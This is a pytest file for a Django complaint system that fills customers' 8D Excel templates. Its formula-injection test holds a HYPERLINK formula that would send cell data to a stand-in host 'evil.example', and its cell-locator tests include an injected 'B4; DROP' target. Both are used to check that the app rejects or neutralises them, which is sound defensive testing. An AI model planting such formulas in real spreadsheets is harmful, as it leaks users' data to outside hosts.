"""The customer's own 8D form: the 8D's fields written into a real xlsx template (cells, named
ranges, lists in repeated rows, a continuation sheet), the template's formats and formulas kept,
and text never turned into a formula. Files are read back with openpyxl."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cqms.audit import services as audit
from cqms.complaints import customer_forms, example_form, reports
from cqms.complaints.models import ReportFormCell

from .answering import answerable, send

pytestmark = pytest.mark.django_db
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def member(make_user):
    return make_user("prod.sun", roles=["staff"], department="production")


@pytest.fixture
def mapped(customer, sales):
    with audit.change_transaction():
        return example_form.install(customer, actor=sales)


@pytest.fixture
def ready(sales, customer, quality, member):
    return answerable(sales, customer, quality, member)


def filled(form, snapshot, language="zh", version=None):
    context = reports.report_context(snapshot, language, version=version)
    book = openpyxl.load_workbook(io.BytesIO(customer_forms.fill(form, context, snapshot)))
    return book


def test_fields_go_to_their_cells_and_named_ranges_and_lists_fill_rows(mapped, ready, sales):
    answer = send(ready, sales)
    book = filled(mapped, answer.snapshot, version=1)
    sheet = book[example_form.SHEET]
    assert sheet["C4"].value == f"{ready.number} v1"  # the named range ComplaintNo
    assert sheet["C5"].value == "P-1001"
    assert sheet["C8"].value == "P-1001 外壳表面划伤 5 mm，超出外观标准"
    team = [sheet[f"B{row}"].value for row in range(11, 11 + example_form.TEAM_ROWS)]
    assert team[:2] == [str(ready.owner), ready.team.all()[1].user.get_full_name() or team[1]]
    assert team[2:] == [None, None]
    assert sheet["F11"].value == "组长"  # the role, in the customer's language
    actions = list(ready.actions.filter(kind="corrective").order_by("pk"))
    for offset, action in enumerate(actions):
        assert sheet[f"B{23 + offset}"].value == action.description
        assert sheet[f"F{23 + offset}"].value == "2026-10-15"
    assert "8D+" not in book.sheetnames  # everything fitted


def test_the_templates_formats_merged_cells_and_own_formula_are_kept(mapped, ready):
    book = filled(mapped, reports.build_snapshot(ready))
    sheet = book[example_form.SHEET]
    assert sheet["A3"].font.bold and sheet["A3"].fill.fgColor.rgb.endswith("DDE3EA")
    assert "C8:H8" in {str(r) for r in sheet.merged_cells.ranges}
    assert sheet["B26"].value == "=COUNTA(B23:B25)" and sheet["B26"].data_type == "f"
    assert sheet.column_dimensions["B"].width == 14


def test_text_that_looks_like_a_formula_is_written_as_text(mapped, ready, quality):
    step = ready.steps.get(step="d2")
    step.data["statement"] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    step.save()
    book = filled(mapped, reports.build_snapshot(ready))
    cell = book[example_form.SHEET]["C8"]
    assert cell.value == '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert cell.data_type == "s"  # a string, not a formula
    assert cell.quotePrefix  # and it stays text when edited in Excel


def test_items_beyond_the_rows_of_the_form_go_to_a_continuation_sheet(mapped, ready):
    snapshot = reports.build_snapshot(ready)
    rows = snapshot["rows"]["corrective_actions"]
    for index in range(3):
        rows.append({**rows[0], "description": f"追加措施 {index}"})
    assert len(rows) > example_form.ACTION_ROWS
    book = filled(mapped, snapshot)
    sheet = book[example_form.SHEET]
    shown = [sheet[f"B{23 + i}"].value for i in range(example_form.ACTION_ROWS)]
    assert shown == [row["description"] for row in rows[: example_form.ACTION_ROWS]]
    assert sheet["B26"].value.startswith("=COUNTA")  # the row after the list is untouched
    more = book[customer_forms.CONTINUATION]
    texts = [c for row in more.iter_rows(values_only=True) for c in row if c]
    rest = [row["description"] for row in rows[example_form.ACTION_ROWS :]]
    assert [t for t in texts if t in rest + shown] == rest  # the rest, and only the rest


def test_a_mapping_must_point_into_the_form(mapped):
    book = customer_forms.open_template(example_form.build())
    assert customer_forms.locate(book, "", "ComplaintNo").row == 4
    assert customer_forms.locate(book, example_form.SHEET, "$B$11").column == 2
    for sheet, target in (("Other", "B4"), ("", "NoSuchName"), ("", "B4; DROP"), ("", "=A1")):
        with pytest.raises(ValueError):
            customer_forms.locate(book, sheet, target)


def test_the_admin_refuses_a_cell_outside_the_form_and_a_file_that_is_no_workbook(
    admin_client, mapped
):
    url = reverse("admin:complaints_customerreportform_change", args=[mapped.pk])
    cells = list(mapped.cells.all())
    data = {
        "customer": mapped.customer.pk,
        "name": mapped.name,
        "is_active": "on",
        "cells-TOTAL_FORMS": str(len(cells) + 1),
        "cells-INITIAL_FORMS": str(len(cells)),
        "cells-MIN_NUM_FORMS": "0",
        "cells-MAX_NUM_FORMS": "1000",
    }
    for index, cell in enumerate(cells):
        data.update(
            {
                f"cells-{index}-id": cell.pk,
                f"cells-{index}-form": mapped.pk,
                f"cells-{index}-field": cell.field,
                f"cells-{index}-sheet": cell.sheet,
                f"cells-{index}-target": cell.target,
                f"cells-{index}-rows": cell.rows or "",
            }
        )
    new = len(cells)
    data.update({f"cells-{new}-field": "d2.what", f"cells-{new}-target": "NoSuchName"})
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert "NoSuchName" in response.content.decode()
    assert not ReportFormCell.objects.filter(target="NoSuchName").exists()
    data[f"cells-{new}-target"] = "C7"
    assert admin_client.post(url, data).status_code == 302
    assert ReportFormCell.objects.filter(form=mapped, field="d2.what", target="C7").exists()
    with pytest.raises(ValidationError):
        customer_forms.validate_template(SimpleUploadedFile("form.xlsx", b"PK\x03\x04broken"))
    with pytest.raises(ValidationError):
        customer_forms.validate_template(SimpleUploadedFile("form.xlsm", example_form.build()))


def test_the_answer_is_downloaded_in_the_customers_form(client, mapped, ready, sales, make_user):
    answer = send(ready, sales)
    client.force_login(sales)
    response = client.get(reverse("complaints:answer_form", args=[ready.number, 1]))
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))[example_form.SHEET]
    assert sheet["C4"].value == f"{ready.number} v{answer.version_number}"
    page = client.get(ready.get_absolute_url()).content.decode()
    assert 'data-report-link="customer-form"' in page
    stranger = make_user("far", roles=["staff"], department="finance")
    client.force_login(stranger)
    assert client.get(reverse("complaints:report_form", args=[ready.number])).status_code == 404


def test_without_a_form_for_the_customer_there_is_no_such_download(client, ready, sales):
    client.force_login(sales)
    assert client.get(reverse("complaints:report_form", args=[ready.number])).status_code == 404
    page = client.get(ready.get_absolute_url()).content.decode()
    assert 'data-report-link="customer-form"' not in page
